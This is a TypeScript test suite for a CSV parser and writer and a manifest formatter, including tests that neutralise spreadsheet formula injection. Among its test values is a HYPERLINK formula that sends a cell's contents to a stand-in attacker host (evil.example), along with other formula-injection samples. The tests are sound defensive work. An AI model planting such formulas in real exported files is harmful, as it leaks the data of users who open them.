// The batch command's CSV reader and writer (RFC 4180 as Excel writes it, with line numbers),
// and the manifest it writes for spreadsheets.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { CsvSyntaxError, formatCsv, parseCsv } from '../../../src/core/table/csv.js';
import { formatManifest, type ManifestEntry } from '../../../src/core/print/manifest.js';

const fields = (text: string) => parseCsv(text).map((record) => record.fields);

describe('parseCsv', () => {
  const cases: [string, string, string[][]][] = [
    [
      'plain LF',
      'a,b\n1,2\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'CRLF, no final line break',
      'a,b\r\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'old Mac CR',
      'a,b\r1,2\r',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    ['empty fields', ',a,,\n', [['', 'a', '', '']]],
    ['quoted comma', '"a,b",c\n', [['a,b', 'c']]],
    ['doubled quotes', '"say ""hi""",x\n', [['say "hi"', 'x']]],
    ['quoted line breaks kept as they are', '"one\r\ntwo\nthree",x\n', [['one\r\ntwo\nthree', 'x']]],
    ['an empty quoted field is a record', '""\n', [['']]],
    ['quote inside an unquoted field is a character', 'a"b,c\n', [['a"b', 'c']]],
    ['blank lines skipped', 'a\n\n\r\nb\n', [['a'], ['b']]],
    [
      'Korean',
      '이름,채널\n강남점,@브랜드\n',
      [
        ['이름', '채널'],
        ['강남점', '@브랜드'],
      ],
    ],
    ['spaces kept', ' a , b \n', [[' a ', ' b ']]],
  ];
  for (const [name, text, expected] of cases) {
    it(name, () => assert.deepEqual(fields(text), expected));
  }

  it('numbers each record by the line it starts on, counting line breaks inside quotes', () => {
    const text = 'h1,h2\r\n"multi\r\nline",x\r\n\r\nlast,"a\nb\rc"\nend,1';
    assert.deepEqual(
      parseCsv(text).map(({ line }) => line),
      [1, 2, 5, 8],
    );
  });

  it('refuses an unclosed quote, at the line it opened', () => {
    assert.throws(
      () => parseCsv('a,b\n1,2\n"open,3\n4,5\n'),
      (error: unknown) => error instanceof CsvSyntaxError && error.line === 3 && /never closed/.test(error.message),
    );
  });

  it('refuses text after a closing quote, at its line', () => {
    assert.throws(
      () => parseCsv('a\n"x\ny"z\n'),
      (error: unknown) => error instanceof CsvSyntaxError && error.line === 3 && /text after a closing quote \("z"\)/.test(error.message),
    );
  });
});

describe('formatCsv', () => {
  it('quotes only what needs it, with CRLF line ends', () => {
    assert.equal(formatCsv([['a', 'b,c', 'say "hi"', 'two\nlines', ' padded', '']]), 'a,"b,c","say ""hi""","two\nlines"," padded",\r\n');
  });

  it('round-trips through parseCsv, whatever the fields hold', () => {
    const field = fc.string({ unit: fc.constantFrom('a', '한', ',', '"', '\n', '\r', ' ', 'x', '='), maxLength: 8 });
    // A record of one empty field is a blank line, which the reader skips: keep records non-blank.
    const record = fc.array(field, { minLength: 1, maxLength: 5 }).filter((values) => values.length > 1 || values[0] !== '');
    fc.assert(
      fc.property(fc.array(record, { maxLength: 6 }), (records) => {
        assert.deepEqual(fields(formatCsv(records)), records);
      }),
    );
  });

  it('gives line numbers that point at each record in the written text', () => {
    const field = fc.string({ unit: fc.constantFrom('a', '\n', '\r\n', ','), maxLength: 6 });
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constant('id'), field), { minLength: 1, maxLength: 6 }), (records) => {
        const text = formatCsv(records);
        const lines = text.split(/\r\n|\r|\n/);
        for (const {
          line,
          fields: [first],
        } of parseCsv(text))
          assert.equal(lines[line - 1]!.startsWith(first!), true);
      }),
    );
  });
});

describe('formatCsv with formulasAsText', () => {
  // OWASP's formula starts are shown as text (a leading ', quoted); anything else is as before.
  const cases: [string, string, string][] = [
    ['as text: starts with =', '=1+1', `"'=1+1"`],
    ['as text: starts with +', '+1+1', `"'+1+1"`],
    ['as text: starts with -', '-spring', `"'-spring"`],
    ['as text: starts with @', '@SUM(A1)', `"'@SUM(A1)"`],
    ['as text: starts with a tab', '\t=1+1', `"'\t=1+1"`],
    ['as text: starts with a carriage return', '\r=1+1', `"'\r=1+1"`],
    [
      'as text: a formula with quotes and commas',
      '=HYPERLINK("https://evil.example/?"&A1,"a, b")',
      `"'=HYPERLINK(""https://evil.example/?""&A1,""a, b"")"`,
    ],
    ['as is: formula characters after the start', 'p=a;c=-b+c@d', 'p=a;c=-b+c@d'],
    [
      'as is: a URL',
      'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da',
      'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3Da',
    ],
    ['marked once more: a leading quote mark before a formula, so it reads back with its mark', "'=1", `"''=1"`],
    ['as is: a leading quote mark before plain text', "'plain", "'plain"],
    ['as is: empty', '', ''],
  ];
  for (const [name, value, written] of cases) {
    it(`writes ${name}`, () => {
      assert.equal(formatCsv([['x', value]], { formulasAsText: true }), `x,${written}\r\n`);
    });
  }

  it('is off by default: the reader gets every field back as it was', () => {
    const records = cases.map(([, value]) => ['x', value]);
    assert.deepEqual(fields(formatCsv(records)), records);
  });
});

describe('formatManifest', () => {
  // Values no CSV row can produce today (names start with a letter or digit; extra with a key;
  // URLs with https:), so the writer's guard is tested on its own.
  const entry: ManifestEntry = {
    line: 2,
    name: '=cmd',
    file: '+x.svg',
    format: 'svg',
    url: '@SUM(A1)',
    extra: '-1+1',
    shortened: ['=a'],
    dropped: [],
  };
  // The settings columns a reprint reads back, blank here.
  const settings = ','.repeat(19);
  const header =
    '\uFEFFline,name,file,format,url,extra,shortened,dropped,channel,placement,campaign,source,page,bot,event,endpoint,template,size,dpi,px,ecc,margin,dark,light,bleed,label,caption\r\n';
  const cases: [string, ManifestEntry, string][] = [
    ['formulas in every cell', entry, header + `2,"'=cmd","'+x.svg",svg,"'@SUM(A1)","'-1+1","'=a",${settings}\r\n`],
    [
      'an ordinary row',
      {
        ...entry,
        name: 'poster_a',
        file: 'poster_a.svg',
        url: 'https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a',
        extra: 'p=-a',
        shortened: [],
      },
      header + `2,poster_a,poster_a.svg,svg,https://bizmessage.kakao.com/chat/open/@brand?extra=p%3D-a,p=-a,,${settings}\r\n`,
    ],
    [
      'the settings a reprint reads back, a channel written as text',
      {
        ...entry,
        name: 'poster_a',
        file: 'poster_a.svg',
        url: 'u',
        extra: '',
        shortened: [],
        settings: { channel: '@brand', placement: 'poster_a', bleed: '3mm' },
      },
      header + `2,poster_a,poster_a.svg,svg,u,,,,"'@brand",poster_a,,,,,,,,,,,,,,,3mm,,\r\n`,
    ],
  ];
  for (const [name, row, csv] of cases) {
    it(`CSV for spreadsheets, no cell a formula: ${name}`, () => assert.equal(formatManifest([row], 'csv'), csv));
    it(`JSON for programs, every value exact: ${name}`, () => {
      const json = formatManifest([row], 'json');
      // One flat object per code, the settings beside the rest, as in the CSV.
      const { settings: given, ...rest } = row;
      assert.deepEqual(JSON.parse(json), [{ ...rest, ...given }]);
      assert.equal(json, `${JSON.stringify([{ ...rest, ...given }], null, 2)}\n`);
    });
  }
});
